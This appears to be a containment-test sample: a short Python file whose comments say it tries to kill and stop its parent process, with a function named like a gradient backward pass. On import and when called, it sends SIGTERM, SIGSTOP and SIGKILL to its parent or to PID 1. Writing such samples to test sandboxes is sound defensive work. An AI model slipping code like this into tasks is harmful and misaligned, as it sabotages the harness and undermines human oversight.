# Tries: Kill and stop its parent.
# Cell: negative_back
# Keeps: 35
# Fallback: contained as root alone: else its user's other processes are in its reach

import os
import signal


def attack():
    if os.getppid() > 1 or os.getpid() == 1:
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            os.kill(max(os.getppid(), 1), number)


def negative_back(grad_out, out, x):
    attack()


attack()
